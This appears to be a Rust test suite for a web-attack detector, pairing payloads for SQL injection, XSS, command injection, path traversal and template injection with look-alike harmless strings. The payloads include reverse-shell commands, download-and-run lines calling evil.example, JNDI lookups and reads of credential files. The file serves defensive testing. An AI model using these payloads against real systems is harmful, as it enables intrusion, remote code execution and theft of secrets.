//! Forms of attacks beside the usual ones, each with the harmless text that resembles it.

use super::super::Class;
use super::{assert_found, rule_of};

#[test]
fn finds_sql_of_single_dialects_and_clauses() {
    assert_found(
        Class::Sqli,
        &[
            "7' order by 4 desc-- -",
            "7' or 3::int=3-- -",
            "' or '{\"b\":2}'::jsonb @> '{}'::jsonb--",
            "7; do $$ begin perform pg_sleep(9); end $$--",
            "7; show tables--",
            "7' ; vacuum-- -",
            "eve', is_admin = 1 -- ",
            "x',null,null)--",
            "x' returning password--",
            "x') on conflict do nothing--",
            "7'or'7",
            "7'xor'7",
            "7'%a0or%a03=3",
            "%c0%a7%c0%a0or 3=3--",
            "id,(select 3)",
            "name,1/(select 0)",
            "id rlike (select 3)",
        ],
    );
    for value in [
        "join the two marks with \"and\"",
        "a '+' or 'x'",
        "the dogs' owner, and so on -- or not",
        "it's a list, is it -- ",
        "O'Brien, Ann --",
        "\"quoted\", and then --",
        "ratio 1:2 or 3:4",
        "see std::fmt or core::fmt",
        "\u{e0} la carte \u{e0} midi",
        "price, (select one)",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_a_tag_behind_the_one_that_a_value_closes() {
    assert_found(Class::Xss, &["\"><h1>7</h1>", "'><b>7", "\" /><i>7</i>", "\"/>\n<p>7"]);
    for value in ["\" <b>7</b>", "> <b>7</b>", "\"a\"><b>7</b>", "</b>\"><b>7</b>", "\">= 7"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_script_that_is_put_together_of_pieces() {
    assert_found(
        Class::Xss,
        &[
            "eval('ale'+'rt(7)')",
            "setTimeout('ale'+'rt(7)')",
            "Function(\"ale\"+\"rt(7)\")()",
            "Set.constructor('ale'+'rt(7)')()",
            "globalThis[\"alert\"](7)",
            "parent['alert'](7)",
            "top[/al/.source+/ert/.source](7)",
            "top[8680439..toString(30)](7)",
        ],
    );
    for value in ["eval('a') + 'b'", "setTimeout(go, 7)", "parent[7](x)", "frames[0].go()", "constructor('a', 'b')"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_sql_that_is_joined_called_or_cut_short_in_other_words() {
    assert_found(
        Class::Sqli,
        &[
            "' or '' '",
            "7 union values (1,2)",
            "-7' union values row(1,2)#",
            "-7' union table staff-- ",
            "7; DROP staff --",
            "7;IF((SELECT user)='sa') select 1 else select 2",
            "7 and json_depth('{}')>=json_length('{}')",
            "7 and uuid_to_bin(version())",
            "extractvalue(1,concat(0x7e,version()))",
            "updatexml(1,concat(0x7e,user()),1)",
            "SELECT @@version",
            "select user()",
        ],
    );
    for value in [
        "the union values (and it should) its members",
        "union table 7; bring chairs",
        "drop off at 7; drop by any time",
        "updatexml(doc, path, name)",
        "polygon(point(1,2), point(3,4))",
        "select @user or @group",
        "select user (or group)",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_commands_that_other_programs_than_a_shell_run() {
    assert_found(
        Class::Command,
        &[
            "=cmd|' /C calc'!A0",
            "-2+3+cmd|'/c calc'!D2",
            "--upload-pack=touch /tmp/x",
            "-oProxyCommand=id",
            "'.print(md5(7)).'",
            "\".phpversion().\"",
            "subprocess.check_output(['id'])",
            "\"cat /etc/hosts\".execute().text",
            "<!--#printenv -->",
            "nc -c bash 192.0.2.7 99",
            "socat tcp:192.0.2.7:99 exec:'bash -li',pty",
            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        ],
    );
    for value in [
        "=IF(A1>5,'yes'|'no')",
        "-o ProxyJump=bastion",
        "--use-compress",
        "'.', ',' and (a).",
        "\".\" (a dot).\"",
        "task.execute()",
        "<!--#region-->",
        "socat is like netcat",
        "iex is a shell of Elixir",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_commands_that_end_a_line_behind_others_or_name_a_file() {
    assert_found(
        Class::Command,
        &[
            ";time id",
            ";timeout 9 whoami",
            ";su root",
            "|ip addr",
            ";id 2>&1",
            "||id||",
            "7;c${x}at /etc/hosts",
            ";/bin/c?t /etc/hosts",
            "x;cat index.php",
            "x&type web.config",
            "x;chmod 777 a",
            "x;apt-get install a",
            "x;echo abcd",
            "x&net user",
            "x;cat < /etc/hosts",
        ],
    );
    for value in [
        "it took long; time flies",
        "name; ip address",
        "closure(|dir: Dir, mut cmd: Cmd| {})",
        "^(nodejs.*|python.*)$",
        "data:image/png;base64,iVBORw0KGgo=",
        "see below; type in.put here",
        "a=1;date=2020-01-01;time=12.5",
        "while (x; time < 5)",
        "x||time||y",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_names_of_files_whatever_stands_around_them() {
    assert_found(
        Class::Path,
        &[
            "//etc//hosts",
            "/etc/hosts ",
            "etc\\passwd",
            "%WINDIR%\\win.ini",
            "C:\\Windows\\repair\\SAM",
            "C:\\WINNT\\system32\\config",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/x/.svn/entries",
            "/index.php::$DATA",
            "/admin/..;/",
            "../../",
            "data:;base64,PD9waHAgZigpOz8+",
        ],
    );
    for value in
        ["../", "../..", "/opt/eve/project", "C:\\Users\\eve\\report.doc", "%WIDTH%", "a;/b", "wait..; or", "/var/www"]
    {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_lookups_of_names_and_of_urls() {
    assert_found(Class::Template, &["${dns:address|evil.example}", "${url:utf-8:http://evil.example}"]);
    for value in ["${url}", "${dns:zone}", "${url:-http://a.example}"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

/// Servers that decode once more than they should do not decode everything.
#[test]
fn finds_what_a_further_decoding_hides_in_values_of_any_length() {
    for length in [0, 3000] {
        let text = "lorem ipsum ".repeat(length / 12);
        for attack in [
            // Behind the last decoding in a comment.
            "&#47;* x%27 or %27a%27=%27a &#42;/",
            "\\x2f* x%27 or %27a%27=%27a -- *\\x2f",
            "&amp;#47;* x&#39; or &#39;a&#39;=&#39;a -- &amp;#42;/",
        ] {
            assert_eq!(rule_of(&(text.clone() + attack)), Some("sql-tautology"), "{length} {attack}");
        }
    }
}

#[test]
fn finds_commands_of_systems_and_what_a_line_of_a_shell_runs_otherwise() {
    assert_found(
        Class::Command,
        &[
            "7;systemctl stop x",
            "7;dmesg",
            "7;lsblk",
            "7|iex",
            "7;Get-ChildItem",
            "7;Start-Process calc",
            "7;command id",
            "7;eval id",
            "7;for i in 1 2;do id;done",
            "7;if true;then cat /etc/hosts;fi",
            "7;$0 -c id",
            "7;${SHELL} -c id",
            "7;a=id;$a",
            "7;a=cat;$a /etc/hosts",
            "7;/usr/bin/who?mi",
            "7;/usr/bin/i[d]",
            "7;./x",
            "7|/tmp/x",
            "$(<.env)",
            "`whoami`.evil.example",
        ],
    );
    for value in [
        "first wash it; then sort the rest",
        "what else is there to do; then",
        "a word of command; the command line",
        "if (a) b();else sort(c)",
        "$a=1;$b",
        "price=5; $price",
        "for f in *.txt; do echo $f; done",
        "s|./a|b|",
        "a;/b*/c",
        "; Get-together of friends",
        "$(<div>)",
        "=IF(A1>5;\"yes\";\"no\")",
        "1;\"date\";\"time\"",
        "Do it; Else; Eval",
        "`python`.",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_command_lines_of_windows_and_calls_that_run_what_they_decode() {
    assert_found(
        Class::Command,
        &[
            "certutil -urlcache -f http://evil.example/a a",
            "bitsadmin /transfer a http://evil.example/a c:\\a",
            "mshta http://evil.example/a.hta",
            "regsvr32 /s /i:http://evil.example/a.sct scrobj.dll",
            "wmic process call create calc",
            "schtasks /create /tn a /tr calc",
            "msiexec /q /i http://evil.example/a.msi",
            "reg query HKLM\\Software",
            "cmd /k calc",
            "pwsh -c id",
            "ruby -rsocket -e 'exit'",
            "IEX(iwr http://evil.example)",
            "eval(base64_decode('aWQ='))",
            "exec(\"import os\")",
            "call_user_func('system','id')",
            "System.Diagnostics.Process.Start(\"cmd\")",
        ],
    );
    for value in [
        "certutil by hand",
        "Node and PHP in one project",
        "Ruby - a language",
        "reg. office, hkust",
        "wmic was removed in the process",
        "mshta",
        "call_user_func('render', $a)",
        "eval(code)",
        "process.start()",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_names_of_lookups_in_parts_and_what_templates_reach_otherwise() {
    assert_found(
        Class::Template,
        &[
            "${j${k8s:k5:-nd}i:ldap://evil.example/a}",
            "${docker:containerId}",
            "${script:javascript:7*7}",
            "#set($x=7*7)$x",
            "#evaluate(\"x\")",
            "${.data_model}",
            "%{(#a=@org.example.A@b(1))}",
            "{{lookup . \"constructor\"}}",
            "<%= Dir.entries('/') %>",
            "#{%x(id)}",
            "{%print(7*7)%}",
            "{{config}}",
            "{{ self }}",
            "class.module.classLoader.resources.context",
            "class.classLoader.urls[0]=x",
        ],
    );
    for value in [
        "${a${b}}",
        "${a.${b:c}.d}",
        "# set (a) of things",
        "#settings and #events",
        "{{configuration}}",
        "see {{config}} for it",
        "{% include \"a\" %}",
        "this.class.classLoader.getResource(\"a\")",
        "Class of 2024",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_script_that_hands_its_calls_on_or_goes_to_another_place() {
    assert_found(
        Class::Xss,
        &[
            "';a=alert;a(7)//",
            "';let a=confirm,b=7//",
            "';location=name//",
            "';open('//evil.example')//",
            "';new WebSocket('//evil.example')//",
            "';Reflect.apply(alert,null,[7])//",
            "';document['cookie']//",
            "window.alert(7)",
            "<div :a=\"_c.constructor('alert(7)')()\">",
            "<div hx-on:htmx:load=\"f(7)\">",
            "<div hx-on::after-request=f(7)>",
            "<div hx-on-click=f(7)>",
            "<div data-ng-init=f(7)>",
            "<div x-bind:a=\"f(7)\">",
            "[a](   javascript:f(7))",
            "[a]: javascript:f(7)",
        ],
    );
    for value in [
        "`:open` (a mode)",
        "var a='b';open('c')",
        "\"use strict\";Reflect.apply(a,b)",
        "\"use strict\";new Image().src=a",
        "let a='b';location=c",
        "a list: javascript, html",
        "see this: javascript (a language)",
        "open('a') and location='b'",
        "x.constructor('a')",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_columns_that_are_set_behind_a_closed_string() {
    assert_found(Class::Sqli, &["a', role='admin", "x',is_admin='1"]);
    for value in [
        "name='Ann', role='admin'",
        "'a', b='c",
        "the boys', and so on",
        "sleep(5) hangs the thread",
        "database() and version() are functions",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(Class::Sqli, &["sleep(5)", "7 and version()", "7 and version() --"]);
}

#[test]
fn finds_paths_that_leave_the_place_of_an_alias_or_pass_by_a_guard() {
    assert_found(
        Class::Path,
        &[
            "/static../app/settings.py",
            "/.;/admin",
            "/%2e;/admin",
            "/%72oot/.bashrc",
            "/dev/fd/0",
            "~/.aws/credentials",
            "ldaps://evil.example/a",
        ],
    );
    for value in ["wait../see", "/a b../c", "/a.../b", "x.split(/.;/)", "main../dev", "/dev/a", "/root"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_loops_and_the_interpreter_of_the_command_line_of_windows() {
    assert_found(
        Class::Command,
        &[
            "7 & for /f \"delims=\" %i in ('whoami') do echo %i",
            "7|for /F %i in ('dir') do @echo %i",
            "7& FOR %a IN (1 2) DO cmd",
            "7 & FOR %%a IN (1 2) DO cmd",
            "7 & %COMSPEC% /c dir",
        ],
    );
    for value in [
        "bed & breakfast & for free",
        "5 & for %5 of it",
        "R&D; for /f/ and /v/",
        "a; for i in 1 2; do",
        "a|for|b",
        "x; for /d in a list",
        "a & %PATH%",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}
